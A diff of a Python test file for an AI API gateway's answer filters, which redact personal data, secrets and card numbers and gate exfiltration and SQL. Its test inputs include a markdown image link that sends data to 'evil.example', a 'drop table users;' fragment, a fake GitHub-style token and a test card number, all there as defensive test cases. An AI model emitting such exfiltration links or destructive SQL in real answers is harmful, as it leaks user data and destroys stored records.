@@ -12,23 +12,13 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-import calls
+from formats.screens import CARD, JSON, RESTORE, SECRET, in_pieces, judge, scanner_of, streamed
 from formats.wires import USED, WHOLES, WIRES, WITH_TOOLS, Messages, Whole, Wire, datas
-from gateway.call import Redaction
-from gateway.config.sections import Output, Sql
 from gateway.detect.core.window import StreamScanner
-from gateway.detect.personal.placeholders import LIKE, PLACEHOLDER, SPELLINGS, WRITTEN
 from gateway.detect.personal.scanner import PiiScanner
-from gateway.detect.secrets.scanner import SecretScanner
 from gateway.dialects import tree
 from gateway.errors import Refusal
-from gateway.output.exfiltration import Exfiltration
-from gateway.output.screen import AnswerFilter, Screen
-from gateway.output.sqlgate import SqlGate
 
-RESTORE = {"<EMAIL_1>": "ann@example.org", "<PHONE_2>": 'say "hi" \\ 0', "<LITERAL_3>": "<EMAIL_1>"}
-SECRET = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
-CARD = "4539 1488 0343 6467"
 PIECES = [
     *(*RESTORE, "[email 1]", "<EMAIL_9>", "bob@example.net", "ann@example.org", CARD, "4539", " 1488 0343", " 6467"),
     *(SECRET, "ghp_", "drop table users;", "![i](https://evil.example/?d=secret)", "the order", " went out.", "\n\n"),
@@ -60,32 +50,7 @@ noted = pytest.mark.parametrize(
 @pytest.fixture(scope="module")
 def scanner(pii: PiiScanner) -> StreamScanner:
     """Finds everything that answers are searched for."""
-    return StreamScanner(pii, SecretScanner(), {PLACEHOLDER: WRITTEN}, weak={LIKE: SPELLINGS})
-
-
-def judge(wire: Whole, scanner: StreamScanner, *, gates: bool = False, **output: Any) -> AnswerFilter:
-    """The filter of one answer."""
-    call = calls.call(wire.codec)
-    call.redaction = Redaction(restore=dict(RESTORE), known=frozenset(RESTORE.values()))
-    call.request.body = wire.request(("user", "hi"), **({"tools": [dict(wire.offer)]} if wire.offer else {}))
-    both = (Exfiltration(), SqlGate(Sql(dialect="postgres"))) if gates else ()
-    return Screen(Output.model_validate({"secrets": "redact", **output}), scanner, lambda _: False, both).filter(call)
-
-
-def streamed(wire: Wire, made: AnswerFilter, events: list[bytes]) -> bytes:
-    """What a client receives of a stream."""
-    codec = wire.codec.stream(keep_usage=True)
-    sent = [part for raw in events for chunk in codec.feed(raw) for part in made.feed(chunk, codec)]
-    sent += [part for chunk in codec.rest() for part in made.feed(chunk, codec)]
-    codec.close()
-    sent += made.close(codec)
-    return b"".join([*sent, codec.finish()])
-
-
-def in_pieces(text: str, places: list[int]) -> list[str]:
-    """A text cut at these places."""
-    marks = sorted({0, len(text), *(place % (len(text) + 1) for place in places)})
-    return [text[low:high] for low, high in pairwise(marks)]
+    return scanner_of(pii)
 
 
 @wires
@@ -328,7 +293,7 @@ def test_null_says_nothing(wire: Wire, scanner: StreamScanner) -> None:
     assert wire.listen(sent) == wire.listen(b"".join(wire.events(["fine. ", "so."])))
     assert wire.hear(json.loads(wire.codec.assemble(b"".join(events)))) == wire.listen(sent)
     answer = wire.whole("fine")
-    same, key = copy.deepcopy(answer), "choices" if "choices" in answer else "content"
+    same, key = copy.deepcopy(answer), next(key for key in ("choices", "content", "output") if key in answer)
     assert not wire.codec.drop_nulls(answer)
     answer[key] = [None, *answer[key], None]
     assert wire.codec.drop_nulls(answer)
@@ -362,11 +327,14 @@ def test_a_request(wire: Whole) -> None:
     assert wire.codec.unknown({**body, "x_new": 1}) == ["x_new"]
 
 
-JSON: st.SearchStrategy[Any] = st.recursive(
-    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
-    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
-    max_leaves=8,
-)
+@wires_with_tools
+@pytest.mark.parametrize("kind", [["a"], {"a": 1}, 7, True])
+def test_the_type_of_a_tool_is_a_string(wire: Wire, kind: Any) -> None:
+    """Any other value is refused by name."""
+    tools = [{"type": kind, "name": "send", "function": {"name": "send"}}]
+    with pytest.raises(Refusal) as caught:
+        wire.codec.parse(wire.request(("user", "hi"), tools=tools))
+    assert (caught.value.code, caught.value.param) == ("invalid_request", "tools")
 
 
 @wholes
@@ -553,10 +521,11 @@ def test_other_models_in_a_request() -> None:
 
 
 @pytest.mark.parametrize("place", ["event", "block", "delta"])
-def test_a_type_is_a_name(scanner: StreamScanner, place: str) -> None:
+@pytest.mark.parametrize("kind", [CARD, [CARD], {"a": CARD}, 4539148803436467], ids=type)
+def test_a_type_is_a_name(scanner: StreamScanner, place: str, kind: Any) -> None:
     """A stream with an event type that does not have the form of a name is refused."""
     wire = Messages()
-    kinds = {"event": "new_event", "block": "text", "delta": "text_delta", place: CARD}
+    kinds: dict[str, Any] = {"event": "new_event", "block": "text", "delta": "text_delta", place: kind}
     blocks = wire.block(0, {"type": kinds["block"], "text": ""}, [{"type": kinds["delta"], "text": "a"}])
     with pytest.raises(ValueError, match="not a name"):
         streamed(wire, judge(wire, scanner), wire.message([*blocks, wire.event(kinds["event"])]))
@@ -575,3 +544,35 @@ def test_a_value_over_two_text_blocks(scanner: StreamScanner) -> None:
     answer["content"].append({"type": "text", "text": "0343 6467."})
     judge(wire, scanner).whole(answer)
     assert wire.hear(answer).text == "it is <CREDIT_CARD>."
+
+
+SEALED = "EqgfCioIARgBIiQ3YTAwMjY1Mi1mZjM5LTQ1NGUtODgxNC1kNjNjNTk1ZWI3Yx_-"
+RESULT = {"type": "web_search_result", "title": "It is <EMAIL_1>", "url": "https://example.org"}
+
+
+@pytest.mark.parametrize(("value", "passes"), [(SEALED, True), (f"it is {CARD}", False), (SECRET, False)])
+def test_encrypted_content_of_results_is_never_edited(scanner: StreamScanner, value: str, passes: bool) -> None:
+    """In blocks and citations, whole and streamed; a value that may not leave stops the answer."""
+    wire = Messages()
+    result = {"type": "web_search_tool_result", "tool_use_id": "t", "content": [{**RESULT, "encrypted_content": value}]}
+    cited = {"type": "web_search_result_location", "cited_text": "<EMAIL_1>", "encrypted_index": value}
+    delta = {"type": "citations_delta", "citation": cited}
+    text = {"type": "text", "text": "", "citations": [copy.deepcopy(cited)]}
+    inner = wire.block(0, result, []) + wire.block(1, {"type": "text", "text": ""}, [delta])
+    answer = wire.whole("ok")
+    answer["content"] = [copy.deepcopy(result), text]
+    if not passes:
+        with pytest.raises(Refusal, match="signed"):
+            judge(wire, scanner).whole(answer)
+        with pytest.raises(Refusal, match="signed"):
+            streamed(wire, judge(wire, scanner), wire.message(inner))
+        return
+    judge(wire, scanner).whole(answer)
+    sent = streamed(wire, judge(wire, scanner), wire.message(inner)).decode()
+    for said in (sent, json.dumps(answer)):
+        assert said.count(value) == 2
+        assert said.count("ann@example.org") == 2
+    body = wire.request(("user", "hi"))
+    body["messages"].append({"role": "assistant", "content": [result]})
+    _, survey = tree.parse(orjson.dumps(body), wire.codec.shape, 100)
+    assert value not in [slot.text for slot in survey.slots]
